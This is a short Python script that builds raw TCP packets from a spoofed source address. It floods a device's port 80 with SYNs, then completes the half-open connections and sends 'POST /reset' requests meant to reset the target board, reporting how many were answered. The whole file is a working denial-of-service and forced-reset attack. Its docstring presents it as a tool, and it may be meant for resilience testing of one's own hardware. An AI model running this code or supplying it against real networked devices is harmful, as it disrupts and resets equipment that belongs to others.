#!/usr/bin/env python3
"""Begins TCP handshakes and ends them late: half-open.py DEVICE SERVER_MAC SOURCE_IP SERVER_IP ANSWER_S

Sends SYNs to port 80 until a line comes on stdin. Then it acknowledges whatever the server had agreed to, sends
a POST that would reset a board, waits ANSWER_S seconds for answers, and prints what became of it as JSON. SOURCE_IP
is nobody's: a kernel that had it would reset what it has not begun.
"""

import json
import select
import socket
import struct
import sys
import time

PORT = 80
SYN, RST, PSH, ACK = 0x02, 0x04, 0x08, 0x10
ETH_P_IP = 0x0800


def checksum(data: bytes) -> int:
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def packet(source: bytes, server: bytes, port: int, seq: int, ack: int, flags: int, data: bytes = b"") -> bytes:
    """IPv4 (RFC 791) with TCP (RFC 9293)."""
    tcp = struct.pack("!HHIIBBHHH", port, PORT, seq, ack, 5 << 4, flags, 65535, 0, 0) + data
    pseudo = source + server + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0, 64, socket.IPPROTO_TCP, 0, source, server)
    return ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:] + tcp


def main() -> None:
    device, server_mac, source_ip, server_ip, answer_s = sys.argv[1:]
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(ETH_P_IP))
    wire.bind((device, ETH_P_IP))
    source, server = socket.inet_aton(source_ip), socket.inet_aton(server_ip)
    to = (device, ETH_P_IP, 0, 0, bytes.fromhex(server_mac.replace(":", "")))
    half_open: dict[int, int] = {}
    answered: set[int] = set()

    def send(port: int, seq: int, ack: int, flags: int, data: bytes = b"") -> None:
        wire.sendto(packet(source, server, port, seq, ack, flags, data), to)

    def hear() -> None:
        got = wire.recv(65535)
        start = (got[0] & 15) * 4
        if got[12:16] != server or got[16:20] != source or got[9] != socket.IPPROTO_TCP:
            return
        _, port, seq, _, offset, flags = struct.unpack("!HHIIBB", got[start : start + 14])
        if flags & (SYN | ACK) == SYN | ACK:
            half_open[port] = seq
        elif len(got) > start + (offset >> 4) * 4:
            answered.add(port)

    print("sending", flush=True)
    port = 20000
    while sys.stdin not in (ready := select.select([wire, sys.stdin], [], [], 0.0005)[0]):
        if wire in ready:
            hear()
        port = 20000 + (port - 19999) % 40000
        send(port, 1000, 0, SYN)
    body = b'{"scope":"all"}'
    head = f"POST /reset HTTP/1.1\r\nHost: {server_ip}\r\nContent-Type: application/json\r\nContent-Length: {len(body)}\r\n\r\n"
    for port, seq in half_open.items():
        send(port, 1001, seq + 1 & 0xFFFFFFFF, ACK)
        send(port, 1001, seq + 1 & 0xFFFFFFFF, PSH | ACK, head.encode() + body)
    until = time.monotonic() + float(answer_s)
    while (left := until - time.monotonic()) > 0:
        if select.select([wire], [], [], left)[0]:
            hear()
    print(json.dumps({"half_open": len(half_open), "answered": len(answered)}), flush=True)


main()
